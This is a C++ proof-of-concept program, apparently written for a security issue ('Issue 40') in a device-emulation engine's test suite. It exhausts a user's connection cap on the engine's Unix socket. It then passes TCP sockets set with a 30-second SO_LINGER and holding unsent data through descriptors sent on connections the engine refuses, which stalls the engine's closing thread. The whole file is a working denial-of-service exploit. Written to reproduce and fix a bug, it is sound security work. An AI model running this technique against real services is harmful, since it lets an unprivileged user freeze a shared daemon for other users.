// Issue 40: descriptors queued on a connection the engine refuses. Run as an
// unprivileged user against an engine whose cap on the user's control connections
// (--limits user_connections) is CAP:
//   linger_attack ENGINE_SOCKET CAP ATTEMPTS
// The program makes ATTEMPTS TCP sockets on loopback (to listeners of its own that never
// read) with unsent data and SO_LINGER of 30 s: whoever closes the last reference of one
// waits up to 30 s for the data to go. It holds CAP control connections of the engine,
// the user's cap, then for each socket connects another and, before the engine accepts
// and refuses it, sends a message carrying the socket, and closes its own descriptor of
// it. The engine's close of a refused connection
// drops the descriptors still queued on it, and the kernel runs their release on the
// closing thread. Printed: "sending" as the first connection past the cap is made,
// "sent: N" (messages that went out before a refusal), then "holding" (the program waits
// to be killed).
#include "attack_verbs.hpp"
#include "softhca/device_interface/socket_io.hpp"

#include <arpa/inet.h>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <netinet/in.h>
#include <string>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>
#include <vector>

namespace {

// A connected TCP socket whose peer never reads, lingering 30 s on close; fill() it
// until it takes nothing more. The peer takes little (its window closes at once), so
// what is sent past that stays unsent, and the FIN behind it.
int lingering_socket() {
    const int listener = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    sockaddr_in address{};
    address.sin_family = AF_INET;
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    socklen_t length = sizeof(address);
    const int small = 4096;
    ::setsockopt(listener, SOL_SOCKET, SO_RCVBUF, &small, sizeof(small));
    if (listener < 0 || ::bind(listener, reinterpret_cast<sockaddr*>(&address), length) != 0 ||
        ::listen(listener, 1) != 0 ||
        ::getsockname(listener, reinterpret_cast<sockaddr*>(&address), &length) != 0)
        attack::die("a loopback listener");
    const int sock = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (sock < 0 || ::connect(sock, reinterpret_cast<sockaddr*>(&address), length) != 0)
        attack::die("connect on loopback");
    if (::accept4(listener, nullptr, nullptr, SOCK_CLOEXEC) < 0) // kept, never read
        attack::die("accept on loopback");
    ::setsockopt(sock, SOL_SOCKET, SO_SNDBUF, &small, sizeof(small));
    const linger lingering{1, 30};
    if (::setsockopt(sock, SOL_SOCKET, SO_LINGER, &lingering, sizeof(lingering)) != 0)
        attack::die("SO_LINGER");
    return sock;
}

void fill(int sock) {
    static char chunk[65536];
    while (::send(sock, chunk, sizeof(chunk), MSG_NOSIGNAL | MSG_DONTWAIT) > 0) {
    }
}

int connect_engine(const char* path) {
    const int fd = ::socket(AF_UNIX, SOCK_SEQPACKET | SOCK_CLOEXEC, 0);
    sockaddr_un address{};
    address.sun_family = AF_UNIX;
    std::snprintf(address.sun_path, sizeof(address.sun_path), "%s", path);
    if (fd < 0 || ::connect(fd, reinterpret_cast<sockaddr*>(&address), sizeof(address)) != 0)
        attack::die("connect to the engine");
    return fd;
}

} // namespace

int main(int argc, char** argv) {
    if (argc != 4) {
        std::fprintf(stderr, "usage: %s ENGINE_SOCKET CAP ATTEMPTS\n", argv[0]);
        return 2;
    }
    const int cap = std::atoi(argv[2]), attempts = std::atoi(argv[3]);
    // One socket per attempt, filled twice a moment apart (the first fill may still be
    // on its way into the peer's buffer).
    std::vector<int> lingering;
    for (int i = 0; i < attempts; ++i)
        lingering.push_back(lingering_socket());
    for (int round = 0; round < 2; ++round) {
        for (const int sock : lingering)
            fill(sock);
        ::usleep(200 * 1000);
    }
    for (int held = 0; held < cap; ++held)
        connect_engine(argv[1]); // kept open: the user's cap
    ::usleep(200 * 1000);        // accepted, and counted, by now
    std::printf("sending\n");
    std::fflush(stdout);
    int sent = 0;
    const uint64_t garbage = 0;
    for (const int sock : lingering) {
        const int extra = connect_engine(argv[1]);
        if (softhca::device_interface::send_message(extra, &garbage, sizeof(garbage), sock) ==
            sizeof(garbage))
            ++sent;
        // The message holds the socket's last reference now: whoever drops it waits.
        ::close(sock);
        ::close(extra);
    }
    std::printf("sent: %d\nholding\n", sent);
    std::fflush(stdout);
    for (;;)
        ::pause();
}
